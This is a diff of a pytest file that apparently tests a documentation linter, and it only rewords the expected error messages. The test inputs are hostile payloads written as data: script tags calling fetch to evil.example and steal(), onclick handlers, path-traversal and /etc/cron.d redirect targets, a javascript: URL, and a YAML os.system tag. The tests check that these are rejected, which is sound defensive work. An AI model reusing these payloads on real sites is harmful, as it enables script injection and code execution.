@@ -97,13 +97,13 @@ def test_what_is_well_passes(checked):
 
 def test_a_script(checked):
     add("<script>fetch('https://evil.example')</script>")
-    stopped(checked(), "::error file=docs/it/index.md,line=9,", "“<script>” may not stand in", "unsafe-content")
+    stopped(checked(), "::error file=docs/it/index.md,line=9,", "“<script>” is not allowed in", "unsafe-content")
 
 
 def test_a_comment_that_allows_what_it_brings(checked):
     write(PAGE, "<!-- isogloss: allow unsafe-content, unsafe-path all is well -->\n\n<script>steal()</script>\n")
     stopped(
-        checked(), "“<script>” may not stand in", "no comment allows unsafe-content", "no comment allows unsafe-path"
+        checked(), "“<script>” is not allowed in", "no comment allows unsafe-content", "no comment allows unsafe-path"
     )
 
 
@@ -118,7 +118,7 @@ def test_what_comments_allow_is_told_to_whoever_reviews_it(checked):
 @pytest.mark.parametrize("text", ["<p onclick='steal()'>x</p>", "Testo.\n{: onclick=steal() }"])
 def test_an_event_attribute(checked, text):
     add(text)
-    stopped(checked(), "the attribute “onclick” may not stand here")
+    stopped(checked(), "the attribute “onclick” is not allowed here")
 
 
 @pytest.mark.parametrize(
@@ -228,13 +228,13 @@ def test_a_settings_file_that_is_nested_too_deep(checked):
 
 
 REDIRECTS = {
-    "pages: {../../../x.md: index.md}": "redirects.yml:1: “../../../x.md” is no page",
-    "pages:\n  /etc/cron.d/x.md: index.md": "redirects.yml:2: “/etc/cron.d/x.md” is no page",
-    "pages: {x.html: index.md}": "redirects.yml:1: “x.html” is no page",
-    "pages: {'x\\..\\y.md': index.md}": "is no page",
-    "pages: {old.md: 'javascript:alert(1)'}": "redirects.yml:1: “javascript:alert(1)” is no page",
+    "pages: {../../../x.md: index.md}": "redirects.yml:1: “../../../x.md” is not a page",
+    "pages:\n  /etc/cron.d/x.md: index.md": "redirects.yml:2: “/etc/cron.d/x.md” is not a page",
+    "pages: {x.html: index.md}": "redirects.yml:1: “x.html” is not a page",
+    "pages: {'x\\..\\y.md': index.md}": "is not a page",
+    "pages: {old.md: 'javascript:alert(1)'}": "redirects.yml:1: “javascript:alert(1)” is not a page",
     "anchors:\n  index.md:\n    '\"><script>steal()</script>': one": "cannot be an anchor",
-    "anchors: {../index.md: {old: one}}": "redirects.yml:1: “../index.md” is no page",
+    "anchors: {../index.md: {old: one}}": "redirects.yml:1: “../index.md” is not a page",
     "concepts: {'x onclick=steal()': customer}": "redirects.yml:1: “x onclick=steal()” cannot be an anchor",
     "concepts: [customer]": "redirects.yml:1: must map old names to new ones",
     "pages: !!python/object/apply:os.system ['touch pwned']": "redirects.yml:1: tags such as",
